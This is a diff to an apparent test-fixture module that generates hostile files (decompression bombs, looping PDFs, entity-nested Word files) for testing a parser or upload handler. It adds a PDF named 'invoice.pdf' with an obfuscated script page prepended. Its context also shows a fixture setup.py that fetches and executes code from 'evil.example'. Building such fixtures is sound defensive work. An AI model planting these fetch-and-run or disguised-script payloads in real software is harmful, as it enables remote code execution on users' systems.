@@ -7,7 +7,7 @@ import { manyFrames } from './gif.ts';
 import { bzip2OfZeros, emptyMembers, gzipOfZeros } from './gzip.ts';
 import { xz } from './lzma.ts';
 import { docxOf } from './office.ts';
-import { HOSTILE as PDFS, pageLoop, streamBomb } from './pdf.ts';
+import { onePage, HOSTILE as PDFS, pageLoop, streamBomb } from './pdf.ts';
 import { join } from './picture-bytes.ts';
 import { chunk, pngHeader, SIGNATURE } from './png.ts';
 import { tar } from './tar.ts';
@@ -48,6 +48,7 @@ export const HOSTILE = {
   'the same, its rows staggered': { name: 'staggered.png', make: () => tiledPng(1_728, { module: 2, staggered: 3 }) },
   'a GIF of 100,000 frames': { name: 'many.gif', make: () => manyFrames(100_000) },
   'a PDF whose pages go round in circles': { name: 'loop.pdf', make: pageLoop },
+  'a PDF with a page of scripts in front': { name: 'invoice.pdf', make: pageBeforePdf },
   'a PDF with a bomb of a page': { name: 'bomb.pdf', make: () => streamBomb(100_000_000) },
   'a PDF with a bomb, packed three times': { name: 'bomb3.pdf', make: () => streamBomb(100_000_000, 3) },
   'a Word document of entities in entities': { name: 'entities.docx', make: entities },
@@ -134,6 +135,10 @@ function crowd(): Uint8Array {
 function scripts(): Uint8Array {
   const many = Array.from({ length: 300 }, (_, at) => ({ path: `lib/${at}.py`, content: 'pass\n'.repeat(100) }));
   return zip([...many, { path: 'lib/setup.py', content: 'exec(requests.get("https://evil.example/x").text)\n' }]);
+}
+
+function pageBeforePdf(): Uint8Array {
+  return join('<html><script>eval(atob("YWxlcnQoMSk="))</script></html>\n', onePage());
 }
 
 function longNames(): Uint8Array {
